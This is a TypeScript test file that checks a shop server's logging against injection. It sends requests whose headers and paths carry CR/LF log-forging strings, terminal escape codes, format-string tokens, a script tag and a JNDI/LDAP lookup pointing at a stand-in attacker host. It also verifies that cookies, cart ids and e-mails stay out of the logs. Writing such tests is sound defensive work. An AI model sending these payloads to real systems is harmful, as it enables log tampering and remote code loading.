import { once } from 'node:events';
import { connect } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openForTests } from './running-shop.ts';

let shop: Awaited<ReturnType<typeof openForTests>>;
beforeAll(async () => {
  shop = await openForTests();
});
afterAll(() => shop.end());

/** Sends bytes as they are; answers the status. */
async function sendRaw(head: string): Promise<number> {
  const socket = connect(shop.port, '127.0.0.1');
  socket.setEncoding('latin1').write(Buffer.from(head, 'latin1'));
  let text = '';
  socket.on('data', (part: string) => (text += part));
  await Promise.race([once(socket, 'close'), once(socket, 'error')]);
  return Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1]);
}

const agents = [
  'one\rforged: {"event":"request"}',
  'one\nforged: {"event":"request"}',
  'one\r\n {"event":"request","folded":true}',
  '\u001b[2J\u001b]0;owned\u0007',
  '{"level":"error","event":"forged"}',
  '\u00e2\u0080\u00a8forged\u0085\u0000',
  `"${'x'.repeat(5000)}`,
  '${jndi:ldap://evil.test/a} %s %n <script>',
  'buyer@soap.test',
];
const paths = [
  '/api/cart',
  '/api/cart/%0d%0a%7b%22event%22%7d',
  '/api/nope/\u001b[31m',
  '/api/cart?email=buyer@soap.test&x=%0a',
];

/** The whole lines after that place, once there are as many: they are printed a moment after the answer. */
async function linesAfter(from: number, least: number): Promise<string[]> {
  const lines = () => shop.printed().slice(from).split('\n').slice(0, -1).filter(Boolean);
  await expect.poll(() => lines().length).toBeGreaterThanOrEqual(least);
  return lines();
}

test('row 110: every request that reaches the shop is one line of JSON, and nothing of the sender is in it', async () => {
  const from = shop.printed().length;
  let reached = 0;
  for (const agent of agents) {
    for (const path of paths) {
      const head = `GET ${path} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${agent}\r\nCookie: secret=cookie\r\nConnection: close\r\n\r\n`;
      const status = await sendRaw(head);
      expect([200, 400, 404, 405, 431]).toContain(status);
      if (status !== 400) reached += 1;
    }
  }
  for (const line of await linesAfter(from, reached)) {
    // eslint-disable-next-line no-control-regex -- that there are none is the point
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
    expect(Object.keys(JSON.parse(line) as object).sort()).toEqual([
      'at',
      'event',
      'level',
      'method',
      'ms',
      'requestId',
      'route',
      'status',
    ]);
    expect(line).not.toMatch(/forged|owned|evil|buyer|secret|xxx|jndi|folded/);
  }
});

test('row 53: a whole purchase leaves no cookie, no cart id and no e-mail in the log', async () => {
  const from = shop.printed().length;
  const headers = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
  const body = JSON.stringify({ base: 'shea butter', scent: 'jasmine', quantity: 2 });
  const added = await shop.send('/api/cart', { method: 'POST', headers, body });
  const [cookie = ''] = added.headers['set-cookie'] ?? [];
  const id = /=([^;]+)/.exec(cookie)?.[1] ?? '';
  expect(id).toHaveLength(43);
  const own = { ...headers, cookie: `cart=${id}` };
  const started = await shop.send('/api/create-checkout-session', { method: 'POST', headers: own });
  expect(started.status).toBe(200);
  for (const path of ['/api/cart', `/api/cart/${id}`, `/api/checkout-session/${id}`])
    await shop.send(path, { headers: own });
  const lines = await linesAfter(from, 5);
  expect(lines.join('\n')).not.toContain(id);
  expect(lines.join('\n')).not.toMatch(/@|cart=/);
});
